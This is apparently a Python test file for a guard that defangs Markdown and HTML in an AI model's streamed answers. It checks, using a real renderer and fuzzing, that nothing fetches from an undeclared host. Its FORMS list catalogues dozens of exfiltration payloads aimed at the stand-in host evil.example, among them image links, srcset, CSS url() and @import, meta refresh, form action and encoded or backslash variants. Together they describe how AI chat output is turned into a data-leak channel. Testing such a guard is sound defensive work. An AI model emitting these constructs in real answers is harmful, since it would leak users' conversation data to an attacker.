"""Answers beside a real renderer: whatever a Markdown reader would fetch or link to, an undeclared host is not among it."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent_os.guards.models.answers import HELD_CHARS_MAX, Defang, Rules, defanged
from agent_os.guards.models.neutral import Delta

READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
READER.validateLink = lambda url: True  # type: ignore[method-assign]
LOADS = frozenset(
    {"src", "srcset", "poster", "data", "background", "xlink:href", "style", "srcdoc", "content", "action", "ping"}
)
STRICT = Rules.of_hosts(lambda host: host == "ok.example", bare=True)


class Page(HTMLParser):
    """Collects what a browser would fetch by itself, and what it would link to."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.loads, self.links, self._style = list[str](), list[str](), False
        self.feed(READER.render(text))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take the addresses of one tag."""
        self._style = tag == "style"
        for name, value in attrs:
            if name == "href":
                (self.links if tag in ("a", "area") else self.loads).append(value or "")
            elif name in LOADS:
                self.loads.append(value or "")

    def handle_data(self, data: str) -> None:
        """Take what a style sheet would fetch."""
        if self._style:
            self.loads.append(data)

    handle_startendtag = handle_starttag


def leads(address: str) -> bool:
    """Return whether a browser on `https://chat.example/` would turn to evil.example for an attribute's value."""
    plain = re.sub(r"[\x00-\x20]", "", html.unescape(address)).replace("\\", "/")
    found = [urljoin("http://chat.example/", part) for part in re.split(r"[,'\"()]", plain)]
    return any((urlsplit(each).hostname or "").endswith("evil.example") for each in found) or "//evil.example" in plain


def streamed(text: str, cuts: list[int], rules: Rules) -> str:
    """Return what a stream shows of a text that comes in these pieces."""
    stream, shown, start = Defang(rules), list[str](), 0
    for cut in [*sorted(cuts), len(text)]:
        piece, start = text[start : max(cut, start)], max(cut, start)
        shown += [delta.text for delta in stream.feed(Delta("text", piece))]
    return "".join([*shown, *(delta.text for delta in stream.flush())])


EVIL = "//evil.example/?q=s"
FORMS = [
    f"![x](https:{EVIL})", f"![x]({EVIL})", f"![x](<https:{EVIL}>)", f"![x]( \n {EVIL} 'title')", f"![x]({' ' * 40}https:{EVIL})",
    f"![x][r]\n\n[r]: https:{EVIL}", f"![r]\n\n[r]: <{EVIL}>", f"![r][]\n\n[r]:\n   https:{EVIL}", f"![R]\n\n> [r]:\n> {EVIL}",
    f"> ![x](\n> {EVIL})", f"![a \\] b]\n\n[a \\] b]: https:{EVIL}", f"![a [b] c](https:{EVIL})", f"[![x]({EVIL})](/local)",
    "![x](&#104;ttps&colon;//evil.example/)", "![x](&#x2f;&#47;evil.example/)", "![x](\\/\\/evil.example/)", "![x](/\\evil.example/)",
    "![x](https:\\\\evil.example/)", f"![x](<ht\ttps:{EVIL}>)", "![x](http:evil.example/p)",
    f"<img src=https:{EVIL}>", f"<IMG\nSRC='{EVIL}'>", f"<img alt='>' src={EVIL}>", f"<img srcset='a.png 1x, https:{EVIL} 2x'>",
    f"<picture><source srcset={EVIL}></picture>", f"<video poster={EVIL}></video>", f"<div style='background:url({EVIL})'>x</div>",
    f"<div title=\">\" style=\"background:url({EVIL})\">x</div>", f"<p style='background:u&#114;l({EVIL})'>", f"<style>@import '{EVIL}';</style>",
    f"<style>\n\nbody{{background:url({EVIL})}}</style>", f"<table background={EVIL}>", f"<td background={EVIL}>", f"<body background={EVIL}>",
    f"<input type=image src={EVIL}>", f"<svg><image href={EVIL} /></svg>", f"<svg><use xlink:href={EVIL}#x></svg>", f"<link rel=stylesheet href={EVIL}>",
    f"<object data={EVIL}></object>", f"<embed src={EVIL}>", f"<iframe srcdoc=\"<img src={EVIL}>\"></iframe>", f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<a href=/x ping={EVIL}>x</a>", f"<form action={EVIL}>", f"<div\n\nstyle='background:url({EVIL})'>",
    f"<b title='\n\n' style='background:url({EVIL})'>", f"<img\tsrc\n=\n\"ht\ntps:{EVIL}\">", "<div style=\"background:url(https:\\\\evil.example)\">",
    f"`code` ![x]({EVIL}) `code`", f"| a |\n|---|\n| ![x]({EVIL}) |", f"- ![x][y]\n\n  [y]: {EVIL}", f"![x]({EVIL}\n\"t\")",
    "![x](https://ok.example@evil.example/)", "![x](https://evil.example#@ok.example/)", f"![x](/a \"b](//evil.example)\") ![y]({EVIL})",
]  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
def test_no_form_of_a_picture_is_fetched_whole_or_in_pieces_of_any_size(form: str) -> None:
    """The form is live for a renderer, and dead after the guard: as a whole, character by character and in larger pieces."""
    for text in (form, f"Before. {form} after.", f"- item\n\n{form}\n\nafter"):
        for size in (len(text), 1, 2, 3, 7, 16):
            shown = streamed(text, list(range(0, len(text), size)), STRICT)
            page = Page(shown)
            assert not any(map(leads, page.loads)), shown
            assert not any(map(leads, page.links)), shown


def test_most_forms_are_live_without_the_guard() -> None:
    """The oracle can fail: a browser would fetch what nearly every one of the forms names."""
    assert sum(any(map(leads, Page(form).loads)) for form in FORMS) >= len(FORMS) - 16


PIECES = st.lists(
    st.sampled_from(
        ["![", "[", "]", "](", "]:", "](<", ">", "<", "(", ")", "!", "\n", "\n\n", " ", "> ", "a", "r", "[r]: ", "![r]", "\\", "'", '"', "`",
         "https:", EVIL, "https://ok.example/y", "&#47;", "/local", "<img ", "<div ", "<b>", "src=", "style=", "url(", "href="]
    ),
    max_size=14,
).map("".join)  # fmt: skip


@example(text=f"![a]([r]: \n[b]: {EVIL}", cuts=[3])
@settings(max_examples=400, deadline=None)
@given(text=PIECES, cuts=st.lists(st.integers(0, 120), max_size=6))
def test_nothing_that_is_put_together_is_fetched(text: str, cuts: list[int]) -> None:
    """For every text of such parts and every cutting of it, the renderer fetches nothing from the undeclared host."""
    for shown in (streamed(text, cuts, STRICT), defanged(text, STRICT)):
        assert not any(map(leads, Page(shown).loads)), shown


KEPT = [
    "Plain words, a < b and c > d, x[1](2), f(a)[b].", "![x](/local/a.png) and ![y](https://ok.example/y.png)", "[l](https://ok.example/a) and [m](/b?c=1&d=2)",
    "**bold** <b>b</b> <br/> <https://ok.example/z> - [ ] todo\n- [x] done", "```python\nif a < b and c[0] > d: print(x)\n```\n", "vector<int> v; Map<String, List<Integer>> m;",
    "see [1] and [2].\n\n[1]: https://ok.example/one\n", "array[i] = !flags[j];",
]  # fmt: skip


@pytest.mark.parametrize("text", KEPT)
def test_twin_what_leads_nowhere_strange_stays_as_it_is(text: str) -> None:
    """Ordinary answers, code and links to declared hosts pass unchanged, however they are cut."""
    for size in (len(text), 1, 5):
        assert streamed(text, list(range(0, len(text), size)), STRICT) == text


def test_images_alone_may_be_taken_out() -> None:
    """Rules that only speak of images leave links as they are."""
    rules = Rules(lambda _: False, lambda _: True)
    text = "[a](https://evil.example/x) ![b](https://evil.example/y) [c][d]\n\n[d]: https://evil.example/z\n"
    shown = streamed(text, list(range(0, len(text), 4)), rules)
    page = Page(shown)
    assert not any(map(leads, page.loads))
    assert sum(map(leads, page.links)) == 2


@pytest.mark.parametrize("begin", ["![x", "[x](", "<div title='", "[r]: ", "![x]("])
def test_what_is_held_is_bounded_and_broken(begin: str) -> None:
    """A construct that never ends is passed on broken, and its late end brings nothing to life."""
    stream = Defang(STRICT)
    shown = "".join(delta.text for delta in stream.feed(Delta("text", begin + "x" * HELD_CHARS_MAX)))
    assert len(shown) >= HELD_CHARS_MAX
    for late in (f"]({EVIL})", f"' style='background:url({EVIL})'>", f"\n\n[x]: {EVIL}\n"):
        shown += "".join(delta.text for delta in stream.feed(Delta("text", late)))
    shown += "".join(delta.text for delta in stream.flush())
    assert not any(map(leads, Page(shown).loads)), shown[-200:]


@pytest.mark.parametrize("form", FORMS)
def test_what_comes_between_two_halves_completes_nothing(form: str) -> None:
    """A tool call between the halves of a form, wherever it is cut: put together by a reader it fetches nothing."""
    for at in range(1, len(form)):
        stream = Defang(STRICT)
        shown = (
            stream.feed(Delta("text", form[:at]))
            + stream.feed(Delta("tool", "{}"))
            + stream.feed(Delta("text", form[at:]))
        )
        text = "".join(delta.text for delta in [*shown, *stream.flush()] if delta.kind == "text")
        assert not any(map(leads, Page(text).loads)), text
